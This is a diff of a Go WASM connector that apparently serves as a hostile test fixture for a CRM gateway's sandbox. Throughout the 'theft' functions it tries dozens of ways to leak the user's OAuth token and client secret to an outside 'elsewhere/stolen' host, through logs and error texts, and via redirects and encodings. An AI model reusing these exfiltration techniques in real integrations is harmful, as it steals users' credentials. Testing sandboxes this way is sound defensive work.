@@ -3,12 +3,14 @@
 package main
 
 import (
-	"encoding/json"
-	"fmt"
-	"net/url"
+	"errors"
+	"maps"
+	"slices"
 	"strings"
 
 	"github.com/crmgate/crmgate/connectors-wasm/sdk"
+	"github.com/crmgate/crmgate/connectors-wasm/sdk/hmac"
+	"github.com/crmgate/crmgate/connectors-wasm/sdk/json"
 )
 
 func main() {}
@@ -41,12 +43,12 @@ func authType(sdk.None) (sdk.AuthType, error) { return sdk.AuthType{Type: "oauth
 // attempt asks which attempt to make.
 func attempt() string {
 	a, _ := sdk.Fetch(sdk.Request{URL: crm + "/attempt"})
-	return string(a.Body)
+	return a.Body
 }
 
 // told tells what became of an attempt.
 func told(outcome string) {
-	_, _ = sdk.Fetch(sdk.Request{Method: "POST", URL: crm + "/outcome", Body: []byte(outcome)})
+	_, _ = sdk.Fetch(sdk.Request{Method: "POST", URL: crm + "/outcome", Body: outcome})
 }
 
 func clientSecret() string { return sdk.ConfigOr("CLIO_CLIENT_SECRET", "") }
@@ -64,15 +66,15 @@ func oauthInfo(sdk.OAuthInfoRequest) (sdk.OAuthInfo, error) {
 	case "secret in the header of the token request":
 		info.TokenAuth = "basicRaw"
 	case "secret in the query of the token endpoint":
-		info.AccessTokenURI += "?s=" + url.QueryEscape(secret)
+		info.AccessTokenURI += "?s=" + sdk.Escape(secret)
 	case "secret as client id":
 		info.ClientID = secret
 	case "secret as scope":
-		info.Scopes = sdk.Words(secret)
+		info.Scopes = secret
 	case "secret as failMessage":
 		info.FailMessage = secret
 	case "secret in an error of getOauthInfo":
-		return info, fmt.Errorf("the secret is %s", secret)
+		return info, errors.New("the secret is " + secret)
 	case "derived secret as client secret, token endpoint elsewhere":
 		info.ClientSecret, info.AccessTokenURI = sdk.Base64(secret), elsewhere+"/oauth/token"
 	}
@@ -93,9 +95,9 @@ func userInfo(in sdk.UserInfoRequest) (sdk.UserInfo, error) {
 
 func logout(sdk.UserRequest) (sdk.Outcome, error) { return sdk.Outcome{Successful: true}, nil }
 
-func license(in sdk.UserRequest) (map[string]any, error) {
+func license(in sdk.UserRequest) (sdk.Object, error) {
 	token := strings.TrimPrefix(in.AuthHeader, "Bearer ")
-	return map[string]any{"isLicenseValid": true, "licenseStatus": token, "licenseStatusDescription": clientSecret(), clientSecret(): []string{token}, "echo": echoed("raw", token)}, nil
+	return sdk.Object{"isLicenseValid": true, "licenseStatus": token, "licenseStatusDescription": clientSecret(), clientSecret(): []string{token}, "echo": echoed("raw", token)}, nil
 }
 
 // theft is an attempt.
@@ -111,14 +113,23 @@ func (t *theft) send(method, to, body string, headers ...string) string {
 	for i := 0; i < len(headers); i += 2 {
 		all[headers[i]] = headers[i+1]
 	}
-	a, err := sdk.Fetch(sdk.Request{Method: method, URL: to, Headers: all, Body: []byte(body)})
+	a, err := sdk.Fetch(sdk.Request{Method: method, URL: to, Headers: all, Body: body})
 	switch {
 	case err != nil:
 		t.outcome = append(t.outcome, err.(*sdk.FetchError).Kind)
 	default:
 		t.outcome = append(t.outcome, "sent")
 	}
-	return string(a.Body) + fmt.Sprint(a.Headers)
+	return everything(a)
+}
+
+// everything returns the body and the headers of an answer.
+func everything(a sdk.Response) string {
+	all := a.Body
+	for _, name := range slices.Sorted(maps.Keys(a.Headers)) {
+		all += " " + name + ":" + a.Headers[name]
+	}
+	return all
 }
 
 // both sends a request with the token, and one with the secret.
@@ -130,8 +141,8 @@ func (t *theft) both(send func(value string)) {
 // pass passes a text on in every way.
 func (t *theft) pass(text string) {
 	t.send("POST", elsewhere+"/stolen", text)
-	t.send("GET", elsewhere+"/stolen?"+url.QueryEscape(text), "")
-	sdk.Log(sdk.LevelWarn, "%s", text)
+	t.send("GET", elsewhere+"/stolen?"+sdk.Escape(text), "")
+	sdk.Log(sdk.LevelWarn, text)
 }
 
 // echoed has Clio repeat a value in an encoding.
@@ -140,10 +151,10 @@ func echoed(encoding, value string) string {
 	if err != nil {
 		return err.Error()
 	}
-	return string(a.Body) + fmt.Sprint(a.Headers)
+	return everything(a)
 }
 
-func form(value string) string { return url.Values{"t": {value}}.Encode() }
+func form(value string) string { return sdk.Parameters{{"t", value}}.Encode() }
 
 func validate(in sdk.UserRequest) (sdk.Outcome, error) {
 	t := &theft{in: in, token: strings.TrimPrefix(in.AuthHeader, "Bearer "), secret: clientSecret()}
@@ -164,7 +175,7 @@ func (t *theft) try(name string) (sdk.Outcome, error) {
 		t.both(func(v string) { t.send("POST", to, with(v), "Content-Type", kind) })
 	}
 	plain := func(v string) string { return v }
-	asJSON := func(v string) string { b, _ := json.Marshal(map[string]string{"t": v}); return string(b) }
+	asJSON := func(v string) string { b, _ := json.Append(nil, map[string]string{"t": v}); return string(b) }
 	if encoding, ok := strings.CutPrefix(name, "echo of Clio: "); ok {
 		t.pass(echoed(encoding, t.token))
 		return out, nil
@@ -175,7 +186,7 @@ func (t *theft) try(name string) (sdk.Outcome, error) {
 	case "header of another name, another host":
 		post(elsewhere+"/stolen", "Cookie", "a=$", "X-Note", "$", "User-Agent", "$", "Referer", "https://x/$")
 	case "header, percent-encoded, another host":
-		t.both(func(v string) { t.send("POST", elsewhere+"/stolen", "", "X-Note", url.QueryEscape(v)) })
+		t.both(func(v string) { t.send("POST", elsewhere+"/stolen", "", "X-Note", sdk.Escape(v)) })
 	case "body, another host":
 		body(elsewhere+"/stolen", "text/plain", plain)
 	case "body, form, another host":
@@ -187,12 +198,12 @@ func (t *theft) try(name string) (sdk.Outcome, error) {
 	case "query, another host":
 		t.both(func(v string) { t.send("GET", elsewhere+"/stolen?"+form(v), "") })
 	case "path, another host":
-		t.both(func(v string) { t.send("GET", elsewhere+"/stolen/"+url.PathEscape(v), "") })
+		t.both(func(v string) { t.send("GET", elsewhere+"/stolen/"+sdk.Escape(v), "") })
 	case "user name of the URL, another host":
-		t.both(func(v string) { t.send("GET", "https://"+url.PathEscape(v)+":x@eu.app.clio.com/stolen", "") })
+		t.both(func(v string) { t.send("GET", "https://"+sdk.Escape(v)+":x@eu.app.clio.com/stolen", "") })
 	case "host":
 		t.both(func(v string) { t.send("GET", "https://"+v+".eu.app.clio.com/stolen", "") })
-		t.both(func(v string) { t.send("GET", "https://"+url.QueryEscape(v)+".eu.app.clio.com/stolen", "") })
+		t.both(func(v string) { t.send("GET", "https://"+sdk.Escape(v)+".eu.app.clio.com/stolen", "") })
 	case "fragment, another host":
 		t.both(func(v string) { t.send("GET", elsewhere+"/stolen#"+v, "") })
 	case "undeclared host":
@@ -205,19 +216,19 @@ func (t *theft) try(name string) (sdk.Outcome, error) {
 	case "query of Clio":
 		t.both(func(v string) { t.send("GET", crm+"/notes?"+form(v), "") })
 	case "path of Clio":
-		t.both(func(v string) { t.send("GET", crm+"/notes/"+url.PathEscape(v), "") })
+		t.both(func(v string) { t.send("GET", crm+"/notes/"+sdk.Escape(v), "") })
 	case "method of Clio":
 		t.both(func(v string) { t.send(v, crm+"/notes", "") })
 	case "name of a header of Clio":
 		t.both(func(v string) { t.send("GET", crm+"/notes", "", v, "1") })
-		t.both(func(v string) { t.send("GET", crm+"/notes", "", url.QueryEscape(v), "1") })
+		t.both(func(v string) { t.send("GET", crm+"/notes", "", sdk.Escape(v), "1") })
 	case "redirect of Clio to another host":
 		t.pass(t.send("GET", crm+"/redirect", "", "Authorization", "Bearer "+t.token, "Accept", t.token, "X-Note", t.token))
 	case "redirect 307 of Clio to another host, with the token":
 		t.pass(t.send("GET", crm+"/redirect?307", "", "Accept", t.token))
 		t.pass(t.send("POST", crm+"/redirect?307", form(t.token), "Content-Type", "application/x-www-form-urlencoded"))
 	case "log":
-		sdk.Log(sdk.LevelError, "the token is %s, the secret is %s", t.token, t.secret)
+		sdk.Log(sdk.LevelError, "the token is "+t.token+", the secret is "+t.secret)
 		println(t.token, t.secret)
 	case "error text":
 		return out, sdk.Error{Message: "the token is " + t.token + ", the secret is " + t.secret, Code: t.secret, Status: 400}
@@ -229,8 +240,8 @@ func (t *theft) try(name string) (sdk.Outcome, error) {
 	case "additional info":
 		out.User = &sdk.UserChange{PlatformAdditionalInfo: map[string]any{"token": t.token, "secret": t.secret, "echo": echoed("raw", t.token)}}
 	case "handles of an earlier call": // of "additional info"
-		token, _ := t.in.User.PlatformAdditionalInfo["token"].(string)
-		secret, _ := t.in.User.PlatformAdditionalInfo["secret"].(string)
+		token := t.in.User.PlatformAdditionalInfo.String("token")
+		secret := t.in.User.PlatformAdditionalInfo.String("secret")
 		t.send("POST", elsewhere+"/stolen", token+secret, "X-Note", token)
 		t.pass(echoed("raw", token))
 	case "handles without a nonce":
@@ -250,12 +261,12 @@ func (t *theft) try(name string) (sdk.Outcome, error) {
 	case "Basic of both, Clio":
 		t.send("POST", crm+"/notes", "", "Authorization", "Basic "+sdk.Basic(t.token, t.secret))
 	case "HMAC, another host":
-		t.both(func(v string) { t.send("POST", elsewhere+"/stolen", sdk.HMAC(v, "m", "hex")) })
-		t.both(func(v string) { t.send("POST", elsewhere+"/stolen", sdk.HMAC("key", v, "base64")) })
+		t.both(func(v string) { t.send("POST", elsewhere+"/stolen", hmac.SHA256(v, "m", "hex")) })
+		t.both(func(v string) { t.send("POST", elsewhere+"/stolen", hmac.SHA256("key", v, "base64")) })
 	case "base64 of base64, echo of Clio":
 		t.pass(echoed("raw", sdk.Base64(sdk.Base64(t.token))))
 	case "HMAC, log":
-		sdk.Log(sdk.LevelInfo, "%s %s", sdk.HMAC(t.secret, "m", "hex"), sdk.Base64(t.token))
+		sdk.Log(sdk.LevelInfo, hmac.SHA256(t.secret, "m", "hex")+" "+sdk.Base64(t.token))
 	}
 	return out, nil
 }
